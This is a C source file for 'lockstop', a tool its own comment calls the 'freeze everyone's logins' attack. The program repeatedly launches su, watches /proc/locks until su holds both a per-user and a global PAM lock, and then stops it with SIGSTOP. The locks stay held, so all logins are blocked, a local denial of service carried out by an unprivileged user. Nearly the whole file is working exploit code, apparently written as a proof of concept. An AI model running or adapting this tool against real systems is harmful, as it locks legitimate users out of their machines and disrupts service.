/* SPDX-License-Identifier: GPL-2.0-or-later */
/* lockstop — the "freeze everyone's logins" attack, run by an ordinary
 * user: start `su` (setuid root, but its real uid is the caller's, so the
 * caller may signal it) with the password on stdin, watch /proc/locks
 * (world-readable) until su holds two flocks at once (pam_ns's per-user
 * lock plus the global "leases" lock), then SIGSTOP it there.
 *   lockstop PASSWORD_FILE TRIES SU_ARGS...
 * Prints "held pid=PID tries=N" and exits 0 leaving su stopped, or
 * "missed tries=N" and exits 1. A try that takes over 3 s (su blocked on
 * something else) is killed and counts as missed. */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int flocks_of(pid_t pid)
{
	static char buf[1 << 16];
	int fd = open("/proc/locks", O_RDONLY), n = 0;
	if (fd < 0)
		return -1;
	ssize_t len = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (len <= 0)
		return 0;
	buf[len] = '\0';
	for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n")) {
		char kind[16];
		int p;
		/* "N: FLOCK  ADVISORY  WRITE PID MAJ:MIN:INO 0 EOF" */
		if (sscanf(line, "%*d: %15s %*s %*s %d", kind, &p) == 2 && p == pid &&
		    strcmp(kind, "FLOCK") == 0)
			n++;
	}
	return n;
}

int main(int argc, char **argv)
{
	if (argc < 4)
		return 2;
	int tries = atoi(argv[2]);
	for (int t = 1; t <= tries; t++) {
		int pw = open(argv[1], O_RDONLY);
		pid_t c = fork();
		if (c == 0) {
			dup2(pw, 0);
			int null = open("/dev/null", O_WRONLY);
			dup2(null, 1);
			dup2(null, 2);
			execv(argv[3], argv + 3);
			_exit(127);
		}
		close(pw);
		int st;
		struct timespec t0, now;
		clock_gettime(CLOCK_MONOTONIC, &t0);
		for (;;) {
			int n = flocks_of(c);
			if (n >= 2) {
				kill(c, SIGSTOP);
				if (flocks_of(c) >= 2) {
					printf("held pid=%d tries=%d\n", c, t);
					return 0;
				}
				kill(c, SIGCONT);
			}
			if (waitpid(c, &st, WNOHANG) == c)
				break;
			clock_gettime(CLOCK_MONOTONIC, &now);
			if (now.tv_sec - t0.tv_sec > 3) {
				kill(c, SIGKILL);
				waitpid(c, &st, 0);
				break;
			}
		}
	}
	printf("missed tries=%d\n", tries);
	return 1;
}
